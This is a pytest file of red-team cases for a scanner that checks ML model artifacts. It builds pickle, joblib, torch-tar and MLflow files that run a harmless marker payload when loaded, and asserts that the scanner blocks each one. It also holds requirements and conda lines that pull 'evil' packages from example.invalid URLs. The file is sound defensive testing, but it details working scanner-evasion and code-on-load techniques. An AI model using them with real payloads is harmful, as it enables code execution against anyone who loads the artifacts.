"""Red-team cases for ``model.artifact`` (threat model A2): files the gate once passed that run code when the
real loader opens them. Each case is built here, shown to run its (harmless) payload under the real loader in
a throwaway subprocess, and must block."""

from __future__ import annotations

import struct
import subprocess
import sys
from pathlib import Path

import pytest

from mlgate.gates.model.artifacts import scan_path

pytestmark = pytest.mark.unit


def _s(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _opener(marker: Path) -> bytes:
    """Protocol-0 opcodes for ``builtins.open(marker, "w")``: the payload only creates an empty file."""
    return b"cbuiltins\nopen\n(V" + str(marker).encode() + b"\nVw\ntR"


def _loads_and_runs(loader: str, path: Path, marker: Path) -> bool:
    """Load ``path`` with the real loader in a subprocess; True when the payload ran (marker created)."""
    code = {"joblib": "import joblib, sys; joblib.load(sys.argv[1])",
            "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
            "torch": "import torch, sys; torch.load(sys.argv[1], weights_only=False)"}[loader]
    subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=120, check=False)
    return marker.exists()


# joblib's NumpyUnpickler reads raw array bytes after BUILD on *any* NumpyArrayWrapper instance. When the scan
# cannot see that an instance is being built (or how large its array is), joblib skips 5 bytes the scan reads
# as opcodes: a BINBYTES header whose body hides the payload from the scan, while joblib runs it.
_W = _s("joblib.numpy_pickle") + _s("NumpyArrayWrapper") + b"\x93"
_U1 = _s("numpy") + _s("dtype") + b"\x93" + _s("u1") + b"\x85R"
_PLAIN = (_s("subclass") + _s("numpy") + _s("ndarray") + b"\x93" + _s("order") + _s("C") + _s("dtype") + _U1
          + _s("allow_mmap") + b"\x89" + _s("numpy_array_alignment_bytes") + b"N")
_STR = _s("builtins") + _s("str") + b"\x93"
_WRAPPER_BUILDS = {
    # an instance made by a reconstructor the scan does not model (any of several reviewed callables)
    "copyreg-newobj": _s("copyreg") + _s("__newobj__") + b"\x93" + _W + b"\x85R"
                      + b"}(" + _s("shape") + b"K\x05\x85" + _PLAIN + b"ub",
    "kd-tree-newObj": _s("sklearn.neighbors._kd_tree") + _s("newObj") + b"\x93" + _W + b"\x85R"
                      + b"}(" + _s("shape") + b"K\x05\x85" + _PLAIN + b"ub",
    # a state key the scan cannot read (str("shape") overrides the shape it saw)
    "opaque-state-key": _W + b")\x81}(" + _s("shape") + b"K\x00\x85" + _PLAIN
                        + _STR + _s("shape") + b"\x85R" + b"K\x05\x85" + b"ub",
    # a whole state the scan cannot read (dict(...) after a constructor call it could)
    "opaque-state": _W + b"(" + _s("numpy") + _s("ndarray") + b"\x93" + b"K\x00\x85" + _s("C") + _U1 + b"\x89Nt"
                    + b"R" + _s("builtins") + _s("dict") + b"\x93" + _s("shape") + b"K\x05\x85\x86\x85\x85R" + b"b",
}


@pytest.mark.parametrize("variant", sorted(_WRAPPER_BUILDS))
def test_joblib_array_wrapper_the_scan_cannot_follow_blocks(tmp_path, variant):
    marker = tmp_path / "ran"
    hidden = _opener(marker)
    data = (b"\x80\x02" + _WRAPPER_BUILDS[variant]
            + b"B" + struct.pack("<I", len(hidden)) + hidden + b"0.")
    path = tmp_path / "model.joblib"
    path.write_bytes(data)
    assert _loads_and_runs("joblib", path, marker), "the sample must run its payload under joblib.load"
    findings = scan_path(path)
    assert [f.id for f in findings] == ["model.artifact.malformed"], findings
    assert "NumpyArrayWrapper" in findings[0].message


# A protocol-0 pickle is plain text. It opens with a list that holds itself (CPython builds it and reads on);
# the scan's text probe used to stop at that anomaly and judge nothing after it. pyfunc's ``data`` key makes
# mlflow.sklearn unpickle the file whatever its name (verified with mlflow.pyfunc.load_model).
def _self_list_then(payload: bytes) -> bytes:
    return b"(lp0\ng0\na0" + payload + b"."


@pytest.mark.parametrize("layout", ["pyfunc-data", "loose-text"])
def test_text_pickle_hiding_behind_an_anomaly_cpython_accepts_blocks(tmp_path, layout):
    marker = tmp_path / "ran"
    model = tmp_path / "model"
    model.mkdir()
    name = "notes.txt" if layout == "pyfunc-data" else "README.md"
    (model / name).write_bytes(_self_list_then(_opener(marker)))
    if layout == "pyfunc-data":
        (model / "MLmodel").write_text("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
                                       f"    data: {name}\n")
    assert _loads_and_runs("pickle", model / name, marker), "the sample must run its payload under pickle.load"
    findings = scan_path(model)
    assert any(f.id == "model.artifact.resource" and f.location.startswith(name) for f in findings), findings


def _mlflow_dir(tmp_path: Path, mlmodel: str, files: dict[str, bytes]) -> Path:
    model = tmp_path / "model"
    model.mkdir()
    (model / "MLmodel").write_text(mlmodel)
    for name, data in files.items():
        (model / name).write_bytes(data)
    return model


def test_lightgbm_sklearn_model_class_without_format_is_judged_as_a_pickle(tmp_path):
    """mlflow.lightgbm loads a non-Booster model_class with scikit-learn's loader, cloudpickle by default; the
    gate judged the file as LightGBM data and passed any pickle (verified with mlflow.pyfunc.load_model)."""
    marker = tmp_path / "ran"
    payload = b"\x80\x04" + _opener(marker) + b"."
    model = _mlflow_dir(tmp_path, "flavors:\n  python_function:\n    loader_module: mlflow.lightgbm\n"
                        "    data: model.lgb\n  lightgbm:\n    data: model.lgb\n"
                        "    model_class: lightgbm.sklearn.LGBMClassifier\n", {"model.lgb": payload})
    assert _loads_and_runs("pickle", model / "model.lgb", marker)
    findings = scan_path(model)
    assert any(f.id == "model.artifact.unsafe_global" and "builtins.open" in f.message for f in findings), findings


def test_a_pickle_named_as_code_free_data_still_blocks(tmp_path):
    """Whatever MLmodel calls a file, a pickle inside it is judged (defence in depth for ``data`` kinds)."""
    model = _mlflow_dir(tmp_path, "flavors:\n  xgboost:\n    data: model.ubj\n",
                        {"model.ubj": b"\x80\x04" + _opener(tmp_path / "ran") + b"."})
    assert any(f.id == "model.artifact.unsafe_global" for f in scan_path(model))


@pytest.mark.parametrize(("flavor", "key", "value"), [
    ("xgboost", "model_class", "tempfile.mkdtemp"),  # mlflow.xgboost: import_module + getattr + call()
    ("tensorflow", "keras_module", "antigravity"),  # mlflow.tensorflow: importlib.import_module(keras_module)
])
def test_mlmodel_naming_a_module_the_loader_imports_blocks(tmp_path, flavor, key, value):
    """Verified for xgboost with mlflow.pyfunc.load_model: tempfile.mkdtemp() ran (a new directory under
    TMPDIR); TensorFlow is not installed here, its loader's import_module is read from MLflow's source."""
    model = _mlflow_dir(tmp_path, f"flavors:\n  {flavor}:\n    data: model.ubj\n    {key}: {value}\n",
                        {"model.ubj": b"{}"})
    findings = scan_path(model)
    assert any(f.id == "model.artifact.mlmodel" and value in f.message for f in findings), findings


@pytest.mark.parametrize("data", ["code/xgboost.py", "model.ubj"])
def test_a_flavor_code_directory_is_code_at_load(tmp_path, data):
    """mlflow.<flavor>.load_model puts the flavor's own ``code`` path on sys.path, then imports xgboost: a
    code/xgboost.py ran (verified with mlflow.xgboost.load_model). The gate read ``code`` only under
    python_function, and a .py file MLmodel named as code-free data skipped the code check."""
    model = _mlflow_dir(tmp_path, f"flavors:\n  xgboost:\n    data: {data}\n    code: code\n", {"model.ubj": b"{}"})
    (model / "code").mkdir()
    (model / "code" / "xgboost.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n")
    findings = scan_path(model)
    assert any(f.id == "model.artifact.code_at_load" and f.location == "code/xgboost.py" for f in findings), findings


def _tar_with_storages(first_name: bytes, payload: bytes) -> bytes:
    """A tar whose first member's name field carries ``first_name`` (bytes another format check reads) and
    whose member ``storages`` torch.load's legacy tar reader unpickles."""
    import io
    import tarfile

    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as tar:
        for name, data in ((first_name.split(b"\0")[0].decode("utf-8", "surrogateescape"), b""),
                           ("storages", payload)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    raw = bytearray(out.getvalue())
    raw[:len(first_name)] = first_name  # bytes after the name's NUL are ignored by tar (checksum fixed below)
    raw[148:156] = b"        "
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    return bytes(raw)


def _legacy_torch_prefix() -> bytes:
    import pickle

    return pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2) + b"N." * 3


def _safetensors_prefix(total: int) -> bytes:
    import json

    header = b""
    for _ in range(3):  # the data section is the rest of the file: the header length must settle
        size = total - 8 - len(header)
        header = json.dumps({"t": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()
    return struct.pack("<Q", len(header)) + header


@pytest.mark.parametrize("disguise", ["legacy-torch-prefix", "safetensors-header"])
def test_a_tar_that_torch_load_unpickles_blocks(tmp_path, disguise):
    """torch.load tries the legacy tar format before anything else (verified: torch.load(weights_only=False)
    ran the storages member of the legacy-prefix file; the gate had judged only the five pickles up front)."""
    pytest.importorskip("torch")
    marker = tmp_path / "ran"
    payload = b"\x80\x02" + _opener(marker) + b"."
    prefix = _legacy_torch_prefix()
    data = _tar_with_storages(prefix, payload)
    if disguise == "safetensors-header":
        data = _tar_with_storages(_safetensors_prefix(len(data)), payload)
    path = tmp_path / "model.pt"
    path.write_bytes(data)
    assert _loads_and_runs("torch", path, marker), "the sample must run its payload under torch.load"
    findings = scan_path(path)
    assert any(f.id == "model.artifact.code_at_load" and "tar" in f.message for f in findings), findings


def test_build_on_an_allowed_class_itself_blocks(tmp_path):
    """BUILD with slot state on a class object setattr()s it: a pickle the gate passed replaced
    IdentityLink.inverse with builtins.len in the loading process, for every model loaded after it."""
    data = (b"\x80\x04" + _s("sklearn._loss.link") + _s("IdentityLink") + b"\x93"
            + b"N}" + _s("inverse") + _s("builtins") + _s("len") + b"\x93" + b"s\x86b.")
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    findings = scan_path(path)
    assert any(f.id == "model.artifact.malformed" and "BUILD on sklearn._loss.link.IdentityLink" in f.message
               for f in findings), findings


@pytest.mark.parametrize(("name", "text"), [
    ("requirements.txt", "mlflow==3.1.0\n-e git+https://example.invalid/evil.git#egg=evil\n"),
    ("requirements.txt", "--extra-index-url https://example.invalid/simple\nscikit-learn==1.9.1\n"),
    ("requirements.txt", "evil @ https://example.invalid/evil-1.0.tar.gz\n"),
    ("requirements.txt", "./evil_pkg\n"),
    ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n- -r other.txt\n"),
    ("conda.yaml", "channels:\n- https://example.invalid/conda\ndependencies:\n- python=3.11.7\n"),
    ("conda.yaml", "dependencies:\n- python=3.11.7\n- pip:\n  - git+https://example.invalid/evil.git\n"),
])
def test_environment_files_that_install_attacker_code_block(tmp_path, name, text):
    """mlflow models serve (virtualenv/conda env managers) installs these: a source distribution from an
    attacker's URL, index or path runs its build code. Not run here (no network); read from MLflow's docs."""
    model = tmp_path / "model"
    model.mkdir()
    (model / name).write_text(text)
    findings = scan_path(model)
    assert any(f.id == "model.artifact.code_at_install" for f in findings), findings


def test_environment_files_mlflow_writes_pass(tmp_path):
    model = tmp_path / "model"
    model.mkdir()
    (model / "requirements.txt").write_text("mlflow==3.1.0\nscikit-learn==1.9.1\n"
                                            "cloudpickle>=3 ; python_version >= '3.9'\n")
    (model / "python_env.yaml").write_text("python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n"
                                           "- -r requirements.txt\n")
    (model / "conda.yaml").write_text("channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.0\n"
                                      "- pip:\n  - scikit-learn==1.9.1\nname: mlflow-env\n")
    assert scan_path(model) == []


def test_a_file_reading_class_handed_to_a_generic_apply_blocks(tmp_path):
    """torch._tensor._rebuild_from_type_v2(func, type, args, state) calls func(*args): lightgbm's Booster
    (admitted only for NEWOBJ) read a model file from an attacker-chosen path (verified with pickle.load)."""
    data = (b"\x80\x04" + _s("torch._tensor") + _s("_rebuild_from_type_v2") + b"\x93"
            + b"(" + _s("lightgbm.basic") + _s("Booster") + b"\x93\x94h\x00"
            + b"(NN" + _s(str(tmp_path / "other_model.txt")) + b"t}tR.")
    path = tmp_path / "model.pkl"
    path.write_bytes(data)
    findings = scan_path(path)
    assert any(f.id == "model.artifact.unsafe_global" and "lightgbm.basic.Booster" in f.message
               for f in findings), findings
